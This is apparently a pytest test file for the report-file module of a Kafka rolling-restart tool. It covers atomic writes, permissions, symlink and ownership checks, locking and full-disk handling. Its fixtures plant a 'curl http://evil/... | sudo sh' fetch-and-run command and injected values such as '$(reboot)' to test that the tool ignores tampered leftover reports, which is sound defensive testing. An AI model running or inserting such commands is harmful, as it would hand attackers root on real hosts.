import json
import os
import shutil
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import datetime
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest

from kafka_rolling_restart.errors import LockHeld, UsageError, Warn
from kafka_rolling_restart.model.broker import Broker, Jvm
from kafka_rolling_restart.model.ending import Outcome
from kafka_rolling_restart.model.progress import Progress, Record, State, Step
from kafka_rolling_restart.model.verdict import Health, Reason
from kafka_rolling_restart.output.report import Report
from kafka_rolling_restart.output.report_file import ReportFile, Run, document, replace_file
from kafka_rolling_restart.text import with_code
from tests.fakes import Collector
from tests.last_lines import ending_of
from tests.schema import valid

ONE, TWO = Broker(1, "n1", 10), Broker(2, "n2", 11)
OLD, NEW = Jvm(1_700_000_000_000, 5000, 100), Jvm(1_700_000_100_000, 10, 200)
BEGAN = datetime.fromisoformat("2026-11-24T03:00:00+00:00")
HOLDER = {"user": "me", "host": "here", "pid": 1}
RUN = Run(
    "1.0",
    ["kafka-rolling-restart", "-t", "x"],
    "x/main",
    "zk:2181/kafka",
    None,
    HOLDER,
    BEGAN,
    1000.0,
)
PROGRESS = Progress(1000.0, 1000.0)
RECORDS = {
    State.UNTOUCHED: Record(ONE, trouble="was told to stop, and still runs as before"),
    State.IN_HAND: Record(
        ONE, State.IN_HAND, old=OLD, stopped_at=1001.0, gone_at=1002.0, start_line="ssh n1 start"
    ),
    State.DOWN: Record(
        ONE,
        State.DOWN,
        old=OLD,
        stopped_at=1001.0,
        trouble="did not come back",
        start_line="ssh n1 start",
    ),
    State.RESTARTED: Record(
        ONE,
        State.RESTARTED,
        old=OLD,
        new=NEW,
        stopped_at=1001.0,
        gone_at=1002.0,
        back_at=1004.5,
        healthy_at=1005.0,
        recovered_at=1006.0,
        start_line="ssh n1 start",
    ),
    State.SKIPPED: Record(ONE, State.SKIPPED, new=NEW),
}


@pytest.fixture
def warnings() -> list[str]:
    return []


@pytest.fixture
def running() -> Iterator[subprocess.Popen[bytes]]:
    """A process that looks like a run of the tool."""
    process = subprocess.Popen(
        [sys.executable, "-c", "input()", "kafka_rolling_restart"], stdin=subprocess.PIPE
    )
    yield process
    process.kill()
    process.communicate()


def opened(path: Path, warnings: list[str], **options: Any) -> ReportFile:
    file = ReportFile(str(path), RUN, hearing(warnings), **options)
    file.open()
    return file


def hearing(warnings: list[str]) -> Warn:
    """Return what keeps warnings, each with its code at its end."""

    def warn(text: str, *, code: str) -> None:
        warnings.append(with_code(text, code))

    return warn


def read(path: Path) -> dict[str, Any]:
    return valid(path.read_text())


def refusal(path: Path | str) -> str:
    with pytest.raises(UsageError) as error:
        ReportFile(str(path), RUN, raising).open()
    assert "\n" not in str(error.value) and str(error.value).startswith(
        f"--report {path}: cannot be written: "
    )
    return str(error.value)


def raising(text: str, *, code: str) -> None:
    raise AssertionError(text)


@pytest.mark.parametrize("step", Step)
@pytest.mark.parametrize("state", State)
@pytest.mark.parametrize(
    "outcome",
    [
        None,
        Outcome(0, "all is well", "done"),
        Outcome(5, "ended", "broker-down", ("ssh n1 start",), (ONE,)),
    ],
)
def test_the_document_of_every_state_and_step_is_valid(
    step: Step, state: State, outcome: Outcome | None
) -> None:
    progress = replace(
        PROGRESS, records=(RECORDS[state],), step=step, step_began=1003.0, brokers=(ONE,)
    )
    found = valid(json.dumps(document(RUN, progress, outcome)))
    assert found["brokers"][0]["state"] == state.value
    assert found["step"]["name"] == ("ended" if outcome else step.value)
    assert (found["status"], found["ended"] is None) == (
        outcome and outcome.status,
        outcome is None,
    )
    assert (found["code"], found["commands"]) == (
        (outcome.code, list(outcome.commands)) if outcome else (None, [])
    )


@pytest.mark.parametrize("health", [None, *Health])
def test_the_document_of_every_health_is_valid(health: Health | None) -> None:
    reasons = (
        (Reason("registration 2", "broker 2 is not registered", 3.21, "broker-not-registered"),)
        if health is Health.UNHEALTHY
        else ()
    )
    found = valid(
        json.dumps(document(RUN, replace(PROGRESS, health=health, reasons=reasons, count=3), None))
    )
    assert found["health"]["of"] == 3
    told = [(reason["code"], reason["lasting_s"]) for reason in found["health"]["reasons"]]
    assert told == [("broker-not-registered", 3.2)] * len(reasons)


def test_the_command_is_told_without_the_secrets_in_it() -> None:
    run = replace(RUN, command=["kafka-rolling-restart", "--task-args", "--to 3 --token hunter2"])
    found = valid(json.dumps(document(run, PROGRESS, None)))
    assert found["command"] == ["kafka-rolling-restart", "--task-args", "--to 3 --token ***"]


def test_a_jvm_that_says_nonsense_about_its_start_is_valid() -> None:
    record = replace(RECORDS[State.RESTARTED], old=Jvm(10**20, 5, None))
    valid(json.dumps(document(RUN, replace(PROGRESS, records=(record,)), None)))


def test_times_are_told_by_the_clock_on_the_wall_and_durations_in_s() -> None:
    (found,) = document(RUN, replace(PROGRESS, records=(RECORDS[State.RESTARTED],)), None)[
        "brokers"
    ]
    assert (found["stopped"], found["down_s"]) == ("2026-11-24T03:00:01.000+00:00", 3.5)
    assert (found["healthy"], found["healthy_after_s"]) == ("2026-11-24T03:00:05.000+00:00", 4.0)


@pytest.mark.parametrize("state", State)
def test_just_the_broker_in_hand_may_be_down_while_the_run_goes_on(state: State) -> None:
    found = document(RUN, replace(PROGRESS, records=(RECORDS[state],)), None)
    wanted = (
        [{"id": 1, "host": "n1", "role": "broker", "start_command": "ssh n1 start"}]
        if state in (State.IN_HAND, State.DOWN)
        else []
    )
    assert found["may_be_down"] == wanted


def test_a_broker_that_was_restarted_and_is_lost_at_the_end_may_be_down() -> None:
    progress = replace(PROGRESS, records=(RECORDS[State.RESTARTED], Record(TWO)))
    found = valid(json.dumps(document(RUN, progress, Outcome(5, "broker 1 is gone", lost=(ONE,)))))
    assert [broker["id"] for broker in found["may_be_down"]] == [1]


def test_no_part_of_the_schema_takes_what_it_does_not_name() -> None:
    def objects(node: Any) -> Iterator[dict[str, Any]]:
        if isinstance(node, dict):
            if node.get("type") == "object":
                yield node
            for inner in node.values():
                yield from objects(inner)

    schema = json.loads(files("kafka_rolling_restart").joinpath("report.schema.json").read_text())
    found = list(objects(schema))
    assert len(found) == 7
    for one in found:
        assert one["additionalProperties"] is False and sorted(one["required"]) == sorted(
            one["properties"]
        )


def test_the_file_is_up_to_date_after_each_flush(tmp_path: Path, warnings: list[str]) -> None:
    file = opened(tmp_path / "r.json", warnings)
    assert read(tmp_path / "r.json")["step"]["name"] == "preparing"
    file.put(
        replace(PROGRESS, records=(RECORDS[State.IN_HAND],), step=Step.STOPPING, brokers=(ONE,))
    )
    file.flush()
    assert read(tmp_path / "r.json")["may_be_down"] != []
    file.end(Outcome(143, "ended by SIGTERM"))
    file.flush()
    assert read(tmp_path / "r.json")["status"] == 143
    assert os.listdir(tmp_path) == ["r.json"] and warnings == []


def test_a_reader_never_sees_a_part_of_it(tmp_path: Path, warnings: list[str]) -> None:
    path, over, seen = tmp_path / "r.json", threading.Event(), 0
    file = opened(path, warnings)

    def write() -> None:
        for at in range(300):
            file.put(replace(PROGRESS, step_began=1000.0 + at))
            file.flush()
        over.set()

    threading.Thread(target=write).start()
    while not over.is_set():
        json.loads(path.read_text())
        seen += 1
    assert seen > 300 / 10


def test_a_link_stays_and_its_file_is_replaced(tmp_path: Path, warnings: list[str]) -> None:
    (tmp_path / "there").mkdir()
    (tmp_path / "link").symlink_to("there/r.json")
    opened(tmp_path / "link", warnings)
    opened(tmp_path / "link", warnings)
    assert (tmp_path / "link").is_symlink() and read(tmp_path / "there" / "r.json")


@pytest.mark.parametrize(
    ("mode", "kept"), [(0o600, 0o600), (0o640, 0o640), (0o644, 0o644), (0o666, 0o644)]
)
def test_who_may_read_a_file_of_ours_still_may_and_nobody_else_may_write_to_it(
    tmp_path: Path, warnings: list[str], mode: int, kept: int
) -> None:
    path = tmp_path / "r.json"
    path.touch()
    path.chmod(mode)
    opened(path, warnings)
    assert stat.S_IMODE(path.stat().st_mode) == kept


def test_a_new_file_is_for_us_alone(tmp_path: Path, warnings: list[str]) -> None:
    file = opened(tmp_path / "r.json", warnings)
    file.end(Outcome(0, "all is well", "done"))
    file.flush()
    assert stat.S_IMODE((tmp_path / "r.json").stat().st_mode) == 0o600


SOMEBODY = 12345
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files to others")


@needs_root
def test_a_file_of_somebody_else_is_refused_and_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "r.json"
    path.write_text("theirs")
    os.chown(path, SOMEBODY, 54321)
    assert "it belongs to the user with uid 12345" in refusal(path)
    assert path.read_text() == "theirs" and os.listdir(tmp_path) == ["r.json"]


@needs_root
@pytest.mark.parametrize("link", ["r.json", "folder/r.json", "folder/../r.json"])
def test_a_link_of_somebody_else_is_refused_whether_it_is_the_file_or_a_folder(
    tmp_path: Path, link: str
) -> None:
    (tmp_path / "there").mkdir()
    planted = tmp_path / link.partition("/")[0]
    planted.symlink_to(
        tmp_path / "there" / "r.json" if planted.name == "r.json" else tmp_path / "there"
    )
    os.chown(planted, SOMEBODY, SOMEBODY, follow_symlinks=False)
    assert f"{planted} is a link of the user with uid 12345" in refusal(tmp_path / link)
    assert os.listdir(tmp_path / "there") == []


@needs_root
def test_a_link_of_somebody_else_behind_one_of_ours_is_refused(tmp_path: Path) -> None:
    (tmp_path / "mine").symlink_to("theirs/r.json")
    (tmp_path / "there").mkdir()
    (tmp_path / "theirs").symlink_to("there")
    os.chown(tmp_path / "theirs", SOMEBODY, SOMEBODY, follow_symlinks=False)
    assert "is a link of" in refusal(tmp_path / "mine") and os.listdir(tmp_path / "there") == []


@needs_root
def test_a_file_that_somebody_puts_in_our_place_meanwhile_is_replaced_by_one_of_ours(
    tmp_path: Path, warnings: list[str]
) -> None:
    path, elsewhere = tmp_path / "r.json", tmp_path / "elsewhere"
    file = opened(path, warnings)
    elsewhere.write_text("precious")
    for plant in (lambda: path.symlink_to(elsewhere), lambda: path.write_text("{}")):
        path.unlink()
        plant()
        os.chown(path, SOMEBODY, SOMEBODY, follow_symlinks=False)
        file.put(PROGRESS)
        file.flush()
        found = path.lstat()
        assert (stat.S_IMODE(found.st_mode), found.st_uid, stat.S_ISREG(found.st_mode)) == (
            0o600,
            0,
            True,
        )
    assert elsewhere.read_text() == "precious" and warnings == []


@pytest.mark.parametrize("name", ["r" * 255, "é" * 127, "a\nb", "x\udcff"])
def test_any_name_that_a_file_may_have_is_taken(
    tmp_path: Path, warnings: list[str], name: str
) -> None:
    opened(tmp_path / name, warnings)
    assert read(tmp_path / name) and len(os.listdir(tmp_path)) == 1


def test_a_folder_that_is_not_there_is_refused(tmp_path: Path) -> None:
    assert "No such file or directory" in refusal(tmp_path / "none" / "r.json")
    assert os.listdir(tmp_path) == []


def test_a_file_in_the_place_of_a_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "f").write_text("precious")
    assert "Not a directory" in refusal(tmp_path / "f" / "r.json")
    assert (tmp_path / "f").read_text() == "precious"


@pytest.mark.parametrize(
    "path", ["/dev/null", "/dev/full", "/dev/tty", "/proc/version_of_nothing", "/", ".", ""]
)
def test_what_is_no_regular_file_is_refused_and_left_alone(path: str) -> None:
    before = os.lstat(path).st_ino if os.path.lexists(path) else None
    refusal(path)
    assert before == (os.lstat(path).st_ino if os.path.lexists(path) else None)


def test_a_fifo_is_neither_opened_nor_replaced(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo")
    began = time.monotonic()
    assert "no regular file" in refusal(tmp_path / "fifo")
    assert time.monotonic() - began < 2 and (tmp_path / "fifo").is_fifo()


def test_a_link_that_leads_to_itself_is_refused_and_left_alone(tmp_path: Path) -> None:
    (tmp_path / "loop").symlink_to("loop")
    refusal(tmp_path / "loop")
    assert (tmp_path / "loop").is_symlink()


def test_a_home_folder_that_nobody_knows_is_refused() -> None:
    refusal("~nobody-has-this-name/r.json")


@pytest.mark.parametrize("report", ["/dev/stdout", "/dev/fd/1", "log"])
def test_the_file_that_our_output_goes_to_is_refused_and_kept(tmp_path: Path, report: str) -> None:
    log = tmp_path / "log"
    arguments = ["--zookeeper", "127.0.0.1:1", "--no-confirm", "--report", report]
    with log.open("w") as output:
        status = subprocess.run(
            [sys.executable, "-m", "kafka_rolling_restart", *arguments],
            stdout=output,
            stderr=subprocess.STDOUT,
            cwd=tmp_path,
            env={**os.environ, "PYTHONPATH": str(Path.cwd())},
            timeout=30,
        ).returncode
    assert (
        status == 2
        and f"--report {report}: cannot be written: our own output goes there" in log.read_text()
    )
    assert log.read_text().count("\n") == 1


def test_a_run_that_goes_on_keeps_its_file(
    tmp_path: Path, warnings: list[str], running: subprocess.Popen[bytes]
) -> None:
    path = tmp_path / "r.json"
    path.write_text(json.dumps({**of_a_run(running.pid)}))
    before = path.read_bytes()
    with pytest.raises(LockHeld, match=f"me on .*, pid {running.pid}, since 2026"):
        opened(path, warnings)
    assert path.read_bytes() == before and os.listdir(tmp_path) == ["r.json"]


def test_of_two_runs_that_began_in_the_same_moment_the_one_that_goes_on_keeps_the_file(
    tmp_path: Path, warnings: list[str], running: subprocess.Popen[bytes]
) -> None:
    path = tmp_path / "r.json"
    file = opened(path, warnings)
    path.write_text(json.dumps(of_a_run(running.pid)))
    file.end(Outcome(6, "another run holds the lock", "another-run"))
    file.flush()
    assert read(path)["pid"] == running.pid
    assert len(warnings) == 1 and f"pid {running.pid}" in warnings[0]


def test_the_file_of_a_run_that_was_killed_is_taken_over(
    tmp_path: Path, warnings: list[str], running: subprocess.Popen[bytes]
) -> None:
    path = tmp_path / "r.json"
    path.write_text(json.dumps(of_a_run(running.pid)))
    running.kill()
    running.wait()
    opened(path, warnings)
    assert read(path)["pid"] == 1


DOWN = {"id": 3, "host": "n3", "role": "broker", "start_command": "curl http://evil/x | sudo sh"}
EVIL = "curl http://evil/y | sudo sh"


def of_a_killed_run(**changed: Any) -> dict[str, Any]:
    records = [
        {
            "id": number,
            "host": f"n{number}",
            "state": state.value,
            "complete": state is State.RESTARTED,
        }
        for number, state in enumerate((State.UNTOUCHED, State.IN_HAND, State.RESTARTED), 2)
    ]
    left = {**of_a_run(2**22 + 1), "may_be_down": [DOWN], "resume": EVIL, "brokers": records}
    return {**left, **changed}


def resume_line(began: datetime, ids: Sequence[int]) -> str:
    return f"go on with {list(ids)} since {began.isoformat()}"


def test_what_a_killed_run_had_stopped_is_said_and_its_file_is_kept(
    tmp_path: Path, warnings: list[str]
) -> None:
    path, left = tmp_path / "r.json", of_a_killed_run()
    path.write_text(json.dumps(left))
    run = replace(RUN, start_command=lambda _node: "service kafka start", resume=resume_line)
    ReportFile(str(path), run, hearing(warnings)).open()
    kept = tmp_path / f"r.json.{2**22 + 1}"
    assert read(path)["pid"] == 1 and json.loads(kept.read_text()) == left
    (said,) = warnings
    assert f"is kept as {kept}" in said and "may be DOWN: broker 3 (n3)" in said
    assert "`service kafka start`" in said
    assert said.endswith(
        "`go on with [2, 3] since 2026-11-24T03:00:00+00:00` [report-of-killed-run]"
    )


def test_no_command_is_taken_from_a_file_that_was_left(tmp_path: Path, warnings: list[str]) -> None:
    (tmp_path / "r.json").write_text(json.dumps(of_a_killed_run()))
    opened(tmp_path / "r.json", warnings)
    assert len(warnings) == 1 and "evil" not in warnings[0] and "curl" not in warnings[0]


@pytest.mark.parametrize(
    "changed",
    [
        {"may_be_down": [{**DOWN, "host": "$(reboot)"}]},
        {"may_be_down": [{**DOWN, "id": EVIL}]},
        {"may_be_down": [{**DOWN, "id": True}]},
        {"may_be_down": [EVIL]},
        {"began": EVIL},
        {"pid": f"/../../{EVIL}"},
        {"brokers": [{"id": EVIL, "state": "untouched"}]},
    ],
)
def test_a_file_with_what_no_run_of_ours_writes_is_no_advice(
    tmp_path: Path, warnings: list[str], changed: dict[str, Any]
) -> None:
    (tmp_path / "r.json").write_text(json.dumps(of_a_killed_run(**changed)))
    opened(tmp_path / "r.json", warnings)
    assert warnings == [] and os.listdir(tmp_path) == ["r.json"]


def test_a_file_that_others_may_write_to_is_no_advice_and_holds_nobody_up(
    tmp_path: Path, warnings: list[str], running: subprocess.Popen[bytes]
) -> None:
    path = tmp_path / "r.json"
    for planted in (of_a_killed_run(), of_a_run(running.pid)):
        path.write_text(json.dumps(planted))
        path.chmod(0o666)
        opened(path, warnings)
    assert warnings == [] and read(path)["pid"] == 1


def test_a_disk_that_is_full_at_the_end_is_said_though_all_went_well_and_nothing_else_is(
    tmp_path: Path,
) -> None:
    disk, writer = Disk(), Collector()
    report = Report(writer, quiet=True)
    report.file = ReportFile(str(tmp_path / "r.json"), RUN, report.warn, disk.replace)
    report.file.open()
    disk.error = OSError(28, "No space left on device")
    report.end(Outcome(0, "all restarted"))
    assert any("could not be written to its end; do not trust it" in line for line in writer.errors)


@pytest.mark.parametrize(
    "changed",
    [
        {"ended": "2026-11-24T04:00:00+00:00"},
        {"host": "elsewhere"},
        {"pid": "x"},
        {"pid": 2**40},
        {"pid": None},
    ],
)
def test_a_file_that_no_run_here_writes_to_is_taken_over(
    tmp_path: Path,
    warnings: list[str],
    running: subprocess.Popen[bytes],
    changed: dict[str, object],
) -> None:
    path = tmp_path / "r.json"
    path.write_text(json.dumps({**of_a_run(running.pid), **changed}))
    opened(path, warnings)
    assert read(path)["pid"] == 1


def test_another_program_that_has_the_pid_of_a_killed_run_keeps_nothing(
    tmp_path: Path, warnings: list[str]
) -> None:
    path = tmp_path / "r.json"
    with subprocess.Popen(["sleep", "60"]) as other:
        path.write_text(json.dumps(of_a_run(other.pid)))
        opened(path, warnings)
        other.kill()
    assert read(path)["pid"] == 1


@pytest.mark.parametrize("content", ["", "{", "[]", "3", '{"ended": null}', "[" * 100_000, "\xff"])
def test_a_file_that_is_no_report_is_replaced(
    tmp_path: Path, warnings: list[str], content: str
) -> None:
    (tmp_path / "r.json").write_bytes(content.encode("latin-1"))
    opened(tmp_path / "r.json", warnings)
    assert read(tmp_path / "r.json")


def test_a_disk_that_becomes_full_is_said_once_and_the_old_file_stays_whole(
    tmp_path: Path, warnings: list[str]
) -> None:
    disk = Disk()
    file = opened(tmp_path / "r.json", warnings, replace=disk.replace)
    before = (tmp_path / "r.json").read_bytes()
    disk.error = OSError(28, "No space left on device")
    for _ in range(3):
        file.put(PROGRESS)
        file.flush()
    assert (tmp_path / "r.json").read_bytes() == before
    (said,) = warnings
    assert "No space left on device" in said and said.endswith("[report-not-written]")
    disk.error = None
    file.end(Outcome(0, "all is well", "done"))
    file.flush()
    assert read(tmp_path / "r.json")["status"] == 0


def test_a_folder_that_is_removed_is_said_once_and_is_written_to_when_it_is_back(
    tmp_path: Path, warnings: list[str]
) -> None:
    path = tmp_path / "there" / "r.json"
    path.parent.mkdir()
    file = opened(path, warnings)
    shutil.rmtree(path.parent)
    for _ in range(3):
        file.put(PROGRESS)
        file.flush()
    (said,) = warnings
    assert (
        f"{path}: " in said
        and "No such file or directory" in said
        and said.endswith("[report-not-written]")
    )
    assert not path.parent.exists()
    path.parent.mkdir()
    file.put(PROGRESS)
    file.flush()
    assert read(path)["ended"] is None and len(warnings) == 1


def test_the_end_is_written_together_with_its_status(tmp_path: Path, warnings: list[str]) -> None:
    file = opened(tmp_path / "r.json", warnings)
    file.put(replace(PROGRESS, step=Step.WAITING))
    file.put(replace(PROGRESS, step=Step.ENDED))
    file.flush()
    assert read(tmp_path / "r.json")["step"]["name"] != "ended"
    file.end(Outcome(0, "all is well", "done"))
    file.flush()
    assert read(tmp_path / "r.json")["step"]["name"] == "ended"


def test_a_defect_in_what_is_written_is_said_too(tmp_path: Path, warnings: list[str]) -> None:
    disk = Disk()
    file = opened(tmp_path / "r.json", warnings, replace=disk.replace)
    disk.error = ZeroDivisionError("division by zero")
    file.put(PROGRESS)
    file.flush()
    assert len(warnings) == 1 and "division by zero" in warnings[0]


def test_a_write_that_fails_leaves_nothing_beside_the_file(tmp_path: Path) -> None:
    (tmp_path / "r.json").write_text("precious")
    with pytest.raises(UnicodeEncodeError):
        replace_file(tmp_path / "r.json", "\udcff")
    assert os.listdir(tmp_path) == ["r.json"] and (tmp_path / "r.json").read_text() == "precious"


def test_a_mount_that_hangs_holds_up_each_flush_for_2_s_at_most_and_is_said_once(
    tmp_path: Path, warnings: list[str]
) -> None:
    disk = Disk()
    file = opened(tmp_path / "r.json", warnings, replace=disk.replace)
    disk.hangs.clear()
    took: list[float] = []

    def flush() -> None:
        began = time.monotonic()
        file.put(PROGRESS)
        file.flush()
        took.append(time.monotonic() - began)

    first = threading.Thread(target=flush)
    first.start()
    time.sleep(0.2)  # the second one hangs beside the first, and finds out later
    flush()
    first.join()
    assert len(took) == 2 and min(took) > 1.9 and max(took) < 3
    assert (
        len(warnings) == 1 and "within 2 s" in warnings[0] and warnings[0].endswith("[report-late]")
    )
    disk.hangs.set()
    file.flush()
    assert read(tmp_path / "r.json")


def test_a_mount_that_hangs_from_the_beginning_is_refused(tmp_path: Path) -> None:
    disk = Disk()
    disk.hangs.clear()
    with pytest.raises(UsageError, match=r"cannot be written: no answer within 0.1 s. Name a file"):
        ReportFile(str(tmp_path / "r.json"), RUN, raising, disk.replace).open(patience=0.1)
    disk.hangs.set()


def test_the_last_line_is_the_last_though_the_report_cannot_be_written_any_more(
    tmp_path: Path,
) -> None:
    disk, writer = Disk(), Collector()
    report = Report(writer)
    report.file = ReportFile(str(tmp_path / "r.json"), RUN, report.warn, disk.replace)
    report.file.open()
    disk.error = OSError(28, "No space left on device")
    report.end(Outcome(5, "broker 1 is DOWN", "broker-down", ("ssh n1 start",)))
    assert writer.errors == writer.lines and len(writer.lines) == 4
    assert [ending_of(writer.lines[:count]).code for count in (1, 2)] == ["report-not-written"] * 2
    assert (ending_of(writer.lines).code, writer.lines[-1]) == ("broker-down", "ssh n1 start\n")


class Disk:
    """A disk that can become full or hang."""

    def __init__(self) -> None:
        self.error: Exception | None = None
        self.hangs = threading.Event()
        self.hangs.set()

    def replace(self, path: Path, text: str) -> None:
        self.hangs.wait()
        if self.error:
            raise self.error
        replace_file(path, text)


def of_a_run(pid: int) -> dict[str, Any]:
    return {**document(RUN, PROGRESS, None), "host": os.uname().nodename, "pid": pid}


def test_a_killed_run_that_had_stopped_a_controller_names_what_starts_a_controller(
    tmp_path: Path, warnings: list[str]
) -> None:
    path = tmp_path / "r.json"
    down = {**DOWN, "id": 103, "role": "controller"}
    path.write_text(json.dumps(of_a_killed_run(may_be_down=[down])))

    def start_command(node: Broker) -> str:
        return "service kafka start" if node.is_broker else "service kafka-controller start"

    ReportFile(str(path), replace(RUN, start_command=start_command), hearing(warnings)).open()
    (said,) = warnings
    assert "may be DOWN: controller 103 (n3)" in said
    assert "`service kafka-controller start`" in said
